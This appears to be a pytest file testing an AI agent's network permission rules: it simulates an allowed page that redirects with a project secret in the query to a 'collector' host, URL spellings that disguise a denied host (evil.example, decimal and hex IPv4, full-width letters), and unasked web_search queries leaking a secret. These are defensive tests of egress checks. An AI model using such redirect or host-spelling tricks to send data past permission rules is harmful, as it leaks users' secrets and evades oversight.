"""Network egress is judged at every hop (issue 39): the attack is a page on a host the user
allowed that redirects — with a secret from the project in the query — to a host a rule denies
or nobody approved; and web_search sending model-chosen text to the search backend unasked.

Two loopback addresses stand for two machines: the allowed site on 127.0.0.1 and the
collector on 127.0.0.2 (both opened to web_fetch by `webFetch.allowedHosts`, so only the
permission rules stand between a redirect and the collector). Runs go through the real loop
with the scripted model: `python -m agent` one-shot (no terminal), and an in-process session
with an asker.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from fake_openai import FakeOpenAI, text, tool_calls
from helpers import run_agent
from routed_fake import close_runs, make_run
from web_server import QuietHandler, serve

from agent.permissions.request import Answer, AskRequest

SECRET = "mango"


class Site(QuietHandler):
    """The allowed site: `/bounce` redirects to the collector with the query it was given,
    `/here` redirects to its own `/page`."""

    collector = ""

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        port = self.server.server_address[1]
        if parts.path == "/bounce":
            self.reply(302, b"", "text/plain", Location=f"http://{Site.collector}/c?{parts.query}")
        elif parts.path == "/here":
            self.reply(302, b"", "text/plain", Location=f"http://127.0.0.1:{port}/page")
        else:
            self.reply(200, b"a page of the allowed site", "text/plain")


class Collector(QuietHandler):
    """The other host: records every request that reaches it."""

    seen: list[str] = []  # noqa: RUF012 - shared on purpose

    def do_GET(self) -> None:
        Collector.seen.append(self.path)
        self.reply(200, b"collected", "text/plain")


class Searx(QuietHandler):
    """A SearXNG instance (the search backend): records every query."""

    queries: list[str] = []  # noqa: RUF012 - shared on purpose

    def do_GET(self) -> None:
        Searx.queries += parse_qs(urlsplit(self.path).query).get("q", [])
        rows = [{"title": "Result", "url": "https://r.example/", "content": "about it"}]
        self.reply(200, json.dumps({"results": rows}).encode(), "application/json")


@pytest.fixture
def hosts() -> Iterator[tuple[str, str]]:
    """(the allowed site, the collector) as host:port."""
    Collector.seen.clear()
    with serve(Collector, "127.0.0.2") as collector, serve(Site) as site:
        Site.collector = collector
        yield site, collector


@pytest.fixture
def searx() -> Iterator[str]:
    Searx.queries.clear()
    with serve(Searx) as where:
        yield f"http://{where}"


@pytest.fixture(autouse=True)
async def _closed() -> AsyncIterator[None]:
    yield
    await close_runs()


def opened(site: str, collector: str) -> dict[str, Any]:
    """Settings that let web_fetch reach both loopback servers (the address check aside)."""
    return {"webFetch": {"allowedHosts": [site, collector]}}


def oneshot(env: dict[str, str], project: Path, settings: dict[str, Any], *args: str) -> Any:
    home = Path(env["HOME"]) / ".agent"
    home.mkdir(parents=True, exist_ok=True)
    (home / "settings.json").write_text(json.dumps(settings))
    r = run_agent(env, project, "--output-format", "json", *args, "go")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout.splitlines()[-1])


def tool_result(fake: FakeOpenAI, n: int = 1) -> str:
    return next(m["content"] for m in fake.requests[n]["messages"] if m["role"] == "tool")


@pytest.mark.parametrize(
    ("rules", "mode", "why"),
    [
        ({"neverAllow": ["web_fetch(domain:127.0.0.2)"]}, "default", "denied by rule"),
        ({"neverAllow": ["web_fetch(domain:127.0.0.2)"]}, "bypassPermissions", "denied by rule"),
        ({"ask": ["web_fetch(domain:127.0.0.2)"]}, "default", "no terminal to ask"),
        ({}, "default", "no terminal to ask"),  # nobody allowed that host
        ({}, "dontAsk", "not allowed"),
    ],
)
def test_a_redirect_cannot_carry_a_secret_to_a_host_the_rules_do_not_allow(
    fake: FakeOpenAI,
    fake_env: dict[str, str],
    project: Path,
    hosts: tuple[str, str],
    rules: dict[str, Any],
    mode: str,
    why: str,
) -> None:
    site, collector = hosts
    url = f"http://{site}/bounce?secret={SECRET}"
    fake.script(tool_calls([("web_fetch", {"url": url})]), text("done"))
    settings = {**opened(site, collector), "permissions": rules}
    allow = ("--allowed-tools", "web_fetch(domain:127.0.0.1)", "--permission-mode", mode)
    result = oneshot(fake_env, project, settings, *allow)
    assert Collector.seen == []  # nothing reached the other host, the secret least of all
    said = tool_result(fake)
    assert f"refused to follow the redirect from {url} to http://{collector}/c?secret=" in said
    assert why in said and "nothing was sent there" in said
    if "rule" in why:
        assert "web_fetch(domain:127.0.0.2)" in said  # the rule that decided
    [denied] = result["permission_denials"]
    assert denied["tool_name"] == "web_fetch"
    assert denied["tool_input"]["url"].startswith(f"http://{collector}/c")  # the hop, named


def test_a_redirect_to_an_allowed_host_is_followed(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path, hosts: tuple[str, str]
) -> None:
    """The control: with the collector allowed too, the same redirect delivers — what the
    rules above keep out is really reachable."""
    site, collector = hosts
    fake.script(
        tool_calls([("web_fetch", {"url": f"http://{site}/bounce?secret={SECRET}"})]), text("ok")
    )
    rules = "web_fetch(domain:127.0.0.1),web_fetch(domain:127.0.0.2)"
    result = oneshot(fake_env, project, opened(site, collector), "--allowed-tools", rules)
    assert Collector.seen == [f"/c?secret={SECRET}"]
    assert "collected" in tool_result(fake)
    assert result["permission_denials"] == []


async def test_with_a_terminal_a_redirect_to_another_host_is_asked_about(
    fake: FakeOpenAI, project: Path, home: Path, hosts: tuple[str, str]
) -> None:
    site, collector = hosts
    asked: list[AskRequest] = []
    answers = [Answer("y"), Answer("n", "not there")]  # the page yes, its redirect no

    async def asker(req: AskRequest) -> Answer:
        asked.append(req)
        return answers.pop(0)

    url = f"http://{site}/bounce?secret={SECRET}"
    fake.script(tool_calls([("web_fetch", {"url": url})]), text("done"))
    run, _ = make_run(fake, project, settings=opened(site, collector), mode="default", asker=asker)
    await run.agent.run_turn("go")
    assert Collector.seen == []
    assert [r.target for r in asked] == [url, f"http://{collector}/c?secret={SECRET}"]
    assert asked[1].reason == f"redirected from {url}"  # the prompt says where it came from
    assert "refused to follow the redirect" in tool_result(fake)
    assert "not there" in tool_result(fake)  # the user's reason reaches the model


async def test_an_approved_redirect_is_followed_and_the_same_host_is_not_asked_again(
    fake: FakeOpenAI, project: Path, home: Path, hosts: tuple[str, str]
) -> None:
    site, collector = hosts
    asked: list[AskRequest] = []

    async def asker(req: AskRequest) -> Answer:
        asked.append(req)
        return Answer("y")

    calls = [("web_fetch", {"url": f"http://{site}/here"})]
    calls.append(("web_fetch", {"url": f"http://{site}/bounce?q=1"}))
    fake.script(tool_calls(calls[:1]), tool_calls(calls[1:]), text("done"))
    run, _ = make_run(fake, project, settings=opened(site, collector), mode="default", asker=asker)
    await run.agent.run_turn("go")
    # /here redirects on its own host: the approval of the call covers it
    assert "a page of the allowed site" in tool_result(fake, 1)
    assert [r.target for r in asked] == [
        f"http://{site}/here",
        f"http://{site}/bounce?q=1",
        f"http://{collector}/c?q=1",  # another host: asked, and approved
    ]
    assert Collector.seen == ["/c?q=1"]


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("evil.example/x", "evil.example"),  # the tool adds https://
        ("//evil.example/x", "evil.example"),
        ("HTTPS://Evil.Example.:443/", "evil.example"),
        ("https://\uff45\uff56\uff49\uff4c.example/", "evil.example"),  # full-width: IDNA maps it
        ("http://2130706433/", "127.0.0.1"),  # the resolver reads these as IPv4
        ("http://0x7f.1/", "127.0.0.1"),
    ],
)
def test_rules_judge_a_url_as_it_will_be_fetched(url: str, rule: str) -> None:
    """Another spelling of a denied host is the denied host: the rules see the URL the tool
    connects to, even where the mode would allow everything else."""
    from agent.permissions.decide import decide
    from agent.tools.web.tools import WEB_FETCH

    rules = {"neverAllow": [f"web_fetch(domain:{rule})"]}
    d = decide(rules, "bypassPermissions", WEB_FETCH, {"url": url}, Path.cwd())
    assert (d.kind, d.rule) == ("deny", f"web_fetch(domain:{rule})")


# --- web_search -----------------------------------------------------------------------------


def test_web_search_sends_nothing_unasked_in_a_one_shot_run(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path, searx: str
) -> None:
    fake.script(tool_calls([("web_search", {"query": f"the secret is {SECRET}"})]), text("ok"))
    settings = {"webSearch": {"provider": "searxng", "url": searx}}
    result = oneshot(fake_env, project, settings)
    assert Searx.queries == []
    said = tool_result(fake)
    assert "permission denied for web_search" in said and "no terminal to ask" in said
    assert "--allowed-tools web_search" in said  # how to allow it
    assert [d["tool_name"] for d in result["permission_denials"]] == ["web_search"]


@pytest.mark.parametrize(
    "allow",
    [("--allowed-tools", "web_search"), ("--permission-mode", "bypassPermissions")],
)
def test_web_search_runs_when_a_rule_or_the_mode_allows_it(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path, searx: str, allow: tuple[str, str]
) -> None:
    fake.script(tool_calls([("web_search", {"query": "asyncio"})]), text("ok"))
    settings = {"webSearch": {"provider": "searxng", "url": searx}}
    result = oneshot(fake_env, project, settings, *allow)
    assert Searx.queries == ["asyncio"]
    assert "1. Result" in tool_result(fake)
    assert result["permission_denials"] == []


@pytest.mark.parametrize("mode", ["default", "acceptEdits"])  # acceptEdits: edits only
async def test_web_search_is_asked_about_with_a_terminal(
    fake: FakeOpenAI, project: Path, home: Path, searx: str, mode: str
) -> None:
    asked: list[AskRequest] = []

    async def asker(req: AskRequest) -> Answer:
        asked.append(req)
        return Answer("n")

    query = f"the secret is {SECRET}"
    fake.script(tool_calls([("web_search", {"query": query})]), text("ok"))
    settings = {"webSearch": {"provider": "searxng", "url": searx}}
    run, _ = make_run(fake, project, settings=settings, mode=mode, asker=asker)
    await run.agent.run_turn("go")
    assert Searx.queries == []
    [req] = asked
    assert (req.tool, req.args) == ("web_search", {"query": query})
    assert req.reason == "it sends data out of this machine"
